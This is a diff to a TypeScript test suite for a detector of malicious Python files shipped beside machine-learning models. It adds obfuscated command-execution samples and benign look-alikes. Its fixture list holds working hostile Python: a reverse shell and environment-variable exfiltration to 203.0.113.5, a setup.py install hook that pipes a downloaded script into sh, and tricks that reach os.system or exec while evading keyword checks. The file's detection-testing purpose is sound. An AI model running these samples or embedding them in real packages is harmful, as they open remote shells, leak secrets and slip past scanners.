@@ -38,6 +38,13 @@ const ATTACKS = [
   "import socket,os,pty\ns=socket.socket();s.connect(('203.0.113.5',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
   "import requests,os\nrequests.post('http://203.0.113.5', json=dict(os.environ))",
   "from setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n  def run(self):\n    import os\n    os.system('curl http://203.0.113.5/a | sh')\nsetup(cmdclass={'install': P})",
+  "import sys\nfor k, v in sys.modules.items():\n  if k == 'o' + 's':\n    for n in dir(v):\n      if n == 'sys' + 'tem':\n        v.__dict__[n]('id')",
+  "import sys\nf = [v for k, v in vars(sys.modules['posix']).items() if len(k) == 6 and k[::2] == 'sse'][0]\nf('id')",
+  "try:\n  raise ZeroDivisionError\nexcept Exception as e:\n  g = e.__traceback__.tb_frame.f_builtins\n  k = [x for x in g if x.startswith('ex') and len(x) == 4 and x[2] == 'e'][0]\n  g[k]('import os')",
+  "class M(type):\n  def __init__(cls, *a):\n    import os\n    os.system('id')\nclass B(metaclass=M): pass",
+  "class A:\n  def __class_getitem__(cls, k):\n    import os\n    os.system(k)\nA['id']",
+  "class D:\n  def __add__(self, o):\n    import os\n    os.system('id')\nD() + 1",
+  "def f():\n  import os\n  os.system('id')\nlist(map(lambda x: x(), [f]))",
 ];
 
 // What honest files beside models do. None of it may be a signal.
@@ -56,6 +63,10 @@ const HONEST = [
   '"""os.system(1)"""\nx = 1  # os.system(1)\n',
   "model.eval()\nimport re\npattern = re.compile('a')",
   "import os, ctypes\nos.environ['A'] = 'b'\nos.makedirs('x', exist_ok=True)\nlib = ctypes.CDLL('libcudart.so')",
+  "import sys\nfor name, module in list(sys.modules.items()):\n  if name.startswith('a') and hasattr(module, 'clear'):\n    module.clear()",
+  "import sys\nname = sys._getframe(1).f_globals.get('__name__', '__main__').lower()",
+  "import sys\nd = {'a': sys._getframe(0).f_globals['__name__']}\nd.update(b=1)",
+  "import subprocess\nclass Base:\n  def __init__(self):\n    subprocess.Popen('x')\nclass Child(Base): pass",
 ];
 
 describe("Python beside a model", () => {
@@ -94,6 +105,17 @@ describe("Python beside a model", () => {
         expect(findings.map(({ rule }) => rule)).not.toContain("parser-failed");
       }),
     );
+  });
+  const MANY = [
+    Array.from({ length: 20_000 }, (_, at) => `def f_${at}(): f_${at + 1}()\n`).join(""),
+    `${Array.from({ length: 20_000 }, (_, at) => `def f_${at}():\n  f_${at + 1}()\n`).join("")}f_0()\n`,
+    "a=a+a\n".repeat(50_000),
+    `a=[1]\n${"a=[a,a]\n".repeat(60)}f(a)\n`,
+  ];
+  it.each(MANY.map((one) => [one.slice(0, 40), one] as const))("is through with %j in time", (_, code) => {
+    const start = performance.now();
+    expect(verdict(code)).toBe("clean");
+    expect(performance.now() - start).toBeLessThan(3_000);
   });
   it("alarms in a notebook only at what nobody writes in good faith", () => {
     const notebook = (source: string): string =>
